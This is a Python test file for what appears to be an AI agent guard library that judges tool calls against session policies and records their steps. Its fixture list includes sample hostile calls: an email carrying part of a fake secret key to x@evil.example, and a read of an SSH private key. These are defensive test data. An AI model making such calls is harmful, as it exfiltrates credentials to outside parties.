"""A check no rule that reads sessions can concern (by its kind and name) is judged
without reading the session's view (``SessionRecorder.reads`` / ``facts_of``): the
same verdicts, rule ids and recorded steps as a guard that reads the view for every
call, and a rule that reads the view anyway is unevaluable — never a miss."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.session.policies import FLOWS, LABELS

from interlock import Action, Context, Guard, Verdict, load_policy_text
from interlock.errors import SessionUnavailable
from interlock.guard_sessions import SessionRecorder
from interlock.policy.engine import evaluate
from interlock.policy.sessionrules import SessionFacts, session_scope
from interlock.session.history import MemoryHistory, NewStep, SessionView

CONTEXT = Context(tenant="acme", agent="a", session_id="s-1")
SECRET = "AKIAQ7XK2M9VZL4PN8WD-sk-live-93jf83hf8wfh3"

#: calls the session rules name (send_email, shell...) and calls none names
CALLS: list[tuple[str, dict[str, Any]]] = [
    ("send_email", {"to": "carol@corp.example", "subject": "Q3", "body": "up 12%"}),
    ("send_email", {"to": "x@evil.example", "subject": "k", "body": SECRET[2:40]}),
    ("read_file", {"path": "/workspace/app.py"}),
    ("read_file", {"path": "/home/dev/.ssh/id_rsa"}),
    ("write_file", {"path": "/workspace/out.txt", "content": "hello"}),
    ("fetch_url", {"url": "https://docs.example.org/a"}),
    ("vault_get", {"key": "prod"}),
    ("shell", {"command": "pytest -q"}),
    ("ticket_get", {"id": 7}),
    ("transfer", {"account": "DE44500105175407324931", "amount": 640}),
]


class ReadsEveryCall(SessionRecorder):
    """The recorder as it was: the view read for every call."""

    def facts_of(self, action: Action) -> SessionFacts:
        return self.facts(action.context)


class CountingHistory(MemoryHistory):
    """A MemoryHistory that counts its reads."""

    def __init__(self) -> None:
        super().__init__()
        self.reads = 0

    def view(self, tenant: str, session_id: str) -> SessionView:
        self.reads += 1
        return super().view(tenant, session_id)


def _guards(text: str) -> tuple[Guard, CountingHistory, Guard, MemoryHistory]:
    """A guard with the filter, and one that reads the view for every call."""
    history = CountingHistory()
    filtered = Guard(load_policy_text(text), sessions=history)
    every = MemoryHistory()
    plain = Guard(load_policy_text(text), sessions=every)
    recorder = plain._sessions
    assert isinstance(recorder, SessionRecorder)
    plain._sessions = ReadsEveryCall(recorder.spec, every)
    return filtered, history, plain, every


def _steps(history: MemoryHistory) -> list[tuple[Any, ...]]:
    view = history.view("acme", "s-1")
    return [(s.kind, s.name, s.verdict, s.labels) for s in view.steps] + [view.labels]


@settings(max_examples=150, deadline=None)
@given(
    text=st.sampled_from([LABELS, FLOWS]),
    calls=st.lists(st.sampled_from(range(len(CALLS))), min_size=1, max_size=12),
)
def test_the_same_verdicts_and_steps_as_reading_every_call(text: str, calls: list[int]) -> None:
    filtered, _, plain, every = _guards(text)
    for n in calls:
        name, args = CALLS[n]
        action = Action(kind="tool", name=name, arguments=args, context=CONTEXT)
        got, want = filtered.check(action), plain.check(action)
        assert (got.verdict, got.rule_ids) == (want.verdict, want.rule_ids), name
        if got.verdict is Verdict.ALLOW:  # the body runs: its result enters the session
            result = SECRET if name == "vault_get" else f"result of {name}"
            filtered._sessions.settle(got, executed=True, result=result)  # type: ignore[union-attr]
            plain._sessions.settle(want, executed=True, result=result)  # type: ignore[union-attr]
    history = filtered.sessions
    assert isinstance(history, MemoryHistory)
    assert _steps(history) == _steps(every)


def test_a_call_no_session_rule_names_reads_no_view_and_is_recorded() -> None:
    guard, history, _, _ = _guards(LABELS)
    read = Action(kind="tool", name="read_file", arguments={"path": "/w/a"}, context=CONTEXT)
    assert guard.check(read).verdict is Verdict.ALLOW
    assert history.reads == 0
    assert [s.name for s in history.view("acme", "s-1").steps] == ["read_file"]
    mail = Action(kind="tool", name="send_email", arguments={"to": "b@c.d"}, context=CONTEXT)
    before = history.reads
    guard.check(mail)
    assert history.reads == before + 1


def test_a_session_function_of_cel_with_no_name_reads_the_view_for_every_call() -> None:
    text = """\
version: 1
default: allow
rules:
  - id: no-tools-after-secret
    decision: deny
    reason: x
    when: '"secret" in session.labels'
"""
    history = CountingHistory()
    guard = Guard(load_policy_text(text), sessions=history)
    history.append("acme", "s-1", NewStep("input", "input", "input", labels=frozenset({"secret"})))
    read = Action(kind="tool", name="anything", arguments={}, context=CONTEXT)
    decision = guard.check(read)
    assert history.reads == 1
    assert decision.verdict is Verdict.DENY


def test_a_rule_that_reads_facts_not_read_is_unevaluable() -> None:
    policy = load_policy_text(LABELS)
    action = Action(kind="tool", name="send_email", arguments={"to": "b@c.d"}, context=CONTEXT)
    with session_scope(SessionFacts.unread("s-1")):
        decision = evaluate(action, policy)
    assert decision.verdict is Verdict.UNDETERMINED
    assert "not read" in decision.reason


class DownHistory(MemoryHistory):
    def view(self, tenant: str, session_id: str) -> SessionView:
        raise SessionUnavailable("down")

    def append_call(self, *args: Any, **kwargs: Any) -> Any:
        raise SessionUnavailable("down")


@pytest.mark.parametrize("name", ["read_file", "send_email"])
def test_a_history_that_is_down_leaves_an_allow_undetermined(name: str) -> None:
    guard = Guard(load_policy_text(LABELS), sessions=DownHistory())
    action = Action(
        kind="tool", name=name, arguments={"path": "/w/a", "to": "b@c.d"}, context=CONTEXT
    )
    assert guard.check(action).verdict is Verdict.UNDETERMINED


class UnreadableHistory(MemoryHistory):
    def view(self, tenant: str, session_id: str) -> SessionView:
        raise SessionUnavailable("reads fail")


def test_an_unreadable_history_leaves_undetermined_only_what_reads_it() -> None:
    """Reads fail, writes land: a call no session rule names needs no view and its
    step is kept (allowed); one a session rule names cannot be judged."""
    history = UnreadableHistory()
    guard = Guard(load_policy_text(LABELS), sessions=history)
    read = Action(kind="tool", name="read_file", arguments={"path": "/w/a"}, context=CONTEXT)
    assert guard.check(read).verdict is Verdict.ALLOW
    assert [s.name for s in MemoryHistory.view(history, "acme", "s-1").steps] == ["read_file"]
    mail = Action(kind="tool", name="send_email", arguments={"to": "b@c.d"}, context=CONTEXT)
    assert guard.check(mail).verdict is Verdict.UNDETERMINED


class OwnWrites(CountingHistory):
    """A history whose writes are its own (a store's may fail)."""

    def append_call(self, *args: Any, **kwargs: Any) -> Any:
        return super().append_call(*args, **kwargs)


def test_a_history_whose_writes_may_fail_is_read_for_every_call() -> None:
    """Read first, a history that is down refuses before the check (one record, the
    refusal), never an allow recorded and then told undetermined."""
    history = OwnWrites()
    guard = Guard(load_policy_text(LABELS), sessions=history)
    read = Action(kind="tool", name="read_file", arguments={"path": "/w/a"}, context=CONTEXT)
    assert guard.check(read).verdict is Verdict.ALLOW
    assert history.reads == 1
